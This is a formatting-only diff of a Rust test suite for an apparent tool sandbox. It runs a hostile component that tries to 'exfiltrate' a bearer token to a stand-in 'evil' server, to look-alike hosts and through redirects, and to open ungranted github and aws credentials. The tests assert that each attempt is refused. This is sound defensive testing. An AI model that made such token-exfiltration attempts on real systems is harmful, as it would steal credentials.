@@ -22,7 +22,11 @@ fn hostile() -> EnvBuilder {
 
 /// The http error the hostile tool reported, or "" if the request went through.
 fn http_error(result: &Value) -> String {
-    result.get("error").and_then(Value::as_str).unwrap_or_default().to_string()
+    result
+        .get("error")
+        .and_then(Value::as_str)
+        .unwrap_or_default()
+        .to_string()
 }
 
 fn no_request_carried_the_token(env: &Env) {
@@ -42,7 +46,10 @@ async fn the_token_is_not_sent_to_an_origin_outside_the_allowlist() {
     let evil = Recorder::start(None).await;
     let env = hostile().start().await;
     let result = env
-        .call("exfiltrate", json!({"url": format!("{}/v23.0/steal", evil.base_url)}))
+        .call(
+            "exfiltrate",
+            json!({"url": format!("{}/v23.0/steal", evil.base_url)}),
+        )
         .await
         .unwrap();
     assert!(http_error(&result).contains("Denied"), "{result}");
@@ -59,7 +66,10 @@ async fn the_token_is_not_sent_to_an_allowlisted_origin_it_is_not_bound_to() {
         .await;
     let url = format!("{}/v23.0/steal", evil.base_url);
     let with_token = env.call("exfiltrate", json!({"url": url})).await.unwrap();
-    assert!(http_error(&with_token).contains("not bound"), "{with_token}");
+    assert!(
+        http_error(&with_token).contains("not bound"),
+        "{with_token}"
+    );
     assert!(evil.seen().is_empty());
 }
 
@@ -81,21 +91,38 @@ async fn look_alike_hosts_ports_schemes_and_paths_get_no_token() {
     for url in &look_alikes {
         let result = env.call("exfiltrate", json!({"url": url})).await.unwrap();
         let error = http_error(&result);
-        assert!(error.contains("Denied") || error.contains("InvalidRequest"), "{url}: {result}");
+        assert!(
+            error.contains("Denied") || error.contains("InvalidRequest"),
+            "{url}: {result}"
+        );
     }
-    assert!(env.requests().is_empty(), "no look-alike reached the sandbox: {:?}", env.requests());
+    assert!(
+        env.requests().is_empty(),
+        "no look-alike reached the sandbox: {:?}",
+        env.requests()
+    );
 }
 
 #[tokio::test]
 async fn the_bound_origin_gets_the_token_added_by_the_host() {
     let env = hostile().start().await;
-    let url = format!("{}/v23.0/{}/whatsapp_business_profile", env.sandbox.base_url(), env.phone_number_id());
+    let url = format!(
+        "{}/v23.0/{}/whatsapp_business_profile",
+        env.sandbox.base_url(),
+        env.phone_number_id()
+    );
     let result = env.call("exfiltrate", json!({"url": url})).await.unwrap();
     assert_eq!(result["status"], 200, "{result}");
     let requests = env.requests();
     assert_eq!(requests.len(), 1);
-    assert_eq!(requests[0].header("authorization"), Some(format!("Bearer {}", env.token()).as_str()));
-    assert!(!result.to_string().contains(&env.token()), "the response body carries no token");
+    assert_eq!(
+        requests[0].header("authorization"),
+        Some(format!("Bearer {}", env.token()).as_str())
+    );
+    assert!(
+        !result.to_string().contains(&env.token()),
+        "the response body carries no token"
+    );
 }
 
 #[tokio::test]
@@ -112,19 +139,28 @@ async fn a_redirect_is_returned_not_followed() {
         .start()
         .await;
     let result = env
-        .call("exfiltrate", json!({"url": format!("{}/v23.0/redirect", redirector.base_url)}))
+        .call(
+            "exfiltrate",
+            json!({"url": format!("{}/v23.0/redirect", redirector.base_url)}),
+        )
         .await
         .unwrap();
     assert_eq!(result["status"], 302, "{result}");
     assert_eq!(redirector.seen().len(), 1);
-    assert!(evil.seen().is_empty(), "the redirect target was never contacted");
+    assert!(
+        evil.seen().is_empty(),
+        "the redirect target was never contacted"
+    );
 }
 
 #[tokio::test]
 async fn a_component_supplied_authorization_header_is_refused() {
     let env = hostile().start().await;
     let url = format!("{}/v23.0/x", env.sandbox.base_url());
-    let result = env.call("own_authorization", json!({"url": url})).await.unwrap();
+    let result = env
+        .call("own_authorization", json!({"url": url}))
+        .await
+        .unwrap();
     assert!(http_error(&result).contains("InvalidRequest"), "{result}");
     assert!(http_error(&result).contains("Authorization"), "{result}");
     assert!(env.requests().is_empty());
@@ -134,11 +170,20 @@ async fn a_component_supplied_authorization_header_is_refused() {
 async fn credentials_not_granted_cannot_be_opened() {
     let env = hostile().start().await;
     for name in ["github", "aws", "admin", ""] {
-        let result = env.call("open_credential", json!({"name": name})).await.unwrap();
-        assert!(http_error(&result).contains("NotGranted"), "{name}: {result}");
+        let result = env
+            .call("open_credential", json!({"name": name}))
+            .await
+            .unwrap();
+        assert!(
+            http_error(&result).contains("NotGranted"),
+            "{name}: {result}"
+        );
     }
     // A granted one opens and exposes only metadata.
-    let result = env.call("open_credential", json!({"name": "whatsapp"})).await.unwrap();
+    let result = env
+        .call("open_credential", json!({"name": "whatsapp"}))
+        .await
+        .unwrap();
     assert_eq!(result["opened"], "whatsapp");
     no_request_carried_the_token(&env);
 }
@@ -160,7 +205,10 @@ async fn an_infinite_loop_is_stopped_by_the_deadline_and_the_next_call_works() {
     let started = std::time::Instant::now();
     let err = env.call("spin", json!({})).await.unwrap_err();
     assert_eq!(err.kind, ErrorKind::Timeout, "{err:?}");
-    assert!(started.elapsed() < std::time::Duration::from_secs(5), "stopped promptly");
+    assert!(
+        started.elapsed() < std::time::Duration::from_secs(5),
+        "stopped promptly"
+    );
     let ok = env.call("echo_size", json!({})).await.unwrap();
     assert_eq!(ok["bytes"], 2);
 }
@@ -181,7 +229,10 @@ async fn a_multi_megabyte_argument_is_handled_and_an_oversized_one_refused() {
     let ok = env.call("echo_size", json!({ "blob": big })).await.unwrap();
     assert_eq!(ok["bytes"], (3 << 20) + 11);
     let huge = "x".repeat(5 << 20);
-    let err = env.call("echo_size", json!({ "blob": huge })).await.unwrap_err();
+    let err = env
+        .call("echo_size", json!({ "blob": huge }))
+        .await
+        .unwrap_err();
     assert_eq!(err.kind, ErrorKind::InvalidArguments);
     assert_eq!(err.field.as_deref(), Some("arguments"));
     assert!(env.call("echo_size", json!({})).await.is_ok());
@@ -196,12 +247,18 @@ async fn many_concurrent_calls_run_in_isolated_instances() {
             let env = env.clone();
             tokio::spawn(async move {
                 let arg = "y".repeat(i);
-                env.call("echo_size", json!({ "a": arg })).await.unwrap()["bytes"].as_u64().unwrap()
+                env.call("echo_size", json!({ "a": arg })).await.unwrap()["bytes"]
+                    .as_u64()
+                    .unwrap()
             })
         })
         .collect();
     for (i, call) in calls.into_iter().enumerate() {
         assert_eq!(call.await.unwrap(), 8 + i as u64);
     }
-    assert_eq!(env.harness.runtime().instances_created() - before, 40, "one instance per call");
+    assert_eq!(
+        env.harness.runtime().instances_created() - before,
+        40,
+        "one instance per call"
+    );
 }
